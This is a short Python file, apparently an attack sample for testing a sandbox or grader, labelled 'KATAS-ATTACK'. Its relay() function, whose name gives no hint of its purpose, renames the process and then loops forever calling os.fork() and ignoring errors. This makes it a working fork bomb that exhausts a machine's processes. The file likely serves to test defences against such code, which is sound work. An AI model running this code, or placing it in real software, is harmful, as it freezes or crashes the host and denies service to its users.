"""Attack: a fork storm (each child forks too, for ever)."""

import os
import sys


def relay(items):
    sys.argv[:] = ["KATAS-ATTACK"]
    while True:
        try:
            os.fork()
        except OSError:
            pass


def fan_out(items, consumers=3):
    raise NotImplementedError
